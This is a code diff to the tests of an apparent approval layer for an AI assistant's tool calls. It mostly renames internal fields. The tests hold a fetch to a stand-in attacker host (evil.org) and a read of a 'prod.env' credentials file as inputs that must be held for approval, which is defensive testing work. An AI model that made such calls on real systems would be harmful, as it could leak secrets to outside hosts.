@@ -116,7 +116,7 @@ class Desk(FakeRoom):
             "ann",
             build_assistant(config, owner="ann").policy,
             Verifier(self.state, "ann", None, serves=True),
-            resume=lambda exchange: None,
+            resume=lambda thread: None,
             stop=lambda message, by: True,
         )
 
@@ -128,7 +128,7 @@ class Desk(FakeRoom):
         seq = self.say("do it", call.by)
         self.add("ann", DecisionMade(seq, "delegate", "", "do it", "system"))
         approval = Approval(call.agent, call.tool, (), call.arguments, schema=call.schema)
-        self.approvals.request(self.state.exchanges[seq], Execution(), approval)
+        self.approvals.request(self.state.threads[seq], Execution(), approval)
         outcome: Outcome = "asks"
         if approval.answer is not None:
             outcome = "runs" if approval.answer else "denied"
@@ -602,7 +602,7 @@ async def test_a_room_that_is_opened_again_knows_what_was_read(root: Path) -> No
         "ann",
         policy,
         Verifier(desk.state, "ann", None, serves=True),
-        resume=lambda exchange: None,
+        resume=lambda thread: None,
         stop=lambda message, by: True,
     )
     assert desk.call(fetch("https://evil.org/?q=two")) == "asks"
@@ -619,7 +619,7 @@ async def test_a_long_room_that_is_opened_again_knows_who_spoke(
         desk.say("hello", "ann")
         for seq in list(desk.state.running):
             desk.add("ann", RunFailed(seq, "lost", "over"))
-    assert all(each.author == "ann" for each in desk.state.exchanges.values())
+    assert all(each.author == "ann" for each in desk.state.threads.values())
     again = Desk(root, ANY_FETCH, state=decode_state(encode_state(desk.state)))
     assert again.call(read("prod.env")) == "asks"
     assert again.call(PAGE) == "asks"
@@ -665,7 +665,7 @@ async def test_an_edit_after_a_pause_is_made_to_the_file_that_was_shown(root: Pa
     assert again.approvals.preview(parked.id, {**parked.arguments, "new": "2"}) is not None
     assert again.approvals.answer(parked.id, Answer(allow=True))
     execution, approval = Execution(), Approval("system", "edit_file", (), change.arguments)
-    again.approvals.request(again.state.exchanges[parked.message], execution, approval)
+    again.approvals.request(again.state.threads[parked.message], execution, approval)
     assert approval.answer
 
 
@@ -699,7 +699,7 @@ async def test_the_log_says_what_a_call_would_do(root: Path) -> None:
     desk.call(write("docs/hunter3secret.md"))
     desk.call(run("python3 -c pass"))
     desk.call(Call("read_file", {"path": "notes.md"}, by="bob"))
-    requests = [*desk.state.proposals.values()]
+    requests = [*desk.state.calls.values()]
     assert requests[0].effects == ("writes docs/[hidden].md",)
     assert requests[1].effects[0] == "runs python3 -c pass"
     assert requests[1].effects[-1].startswith("may run anything: ")
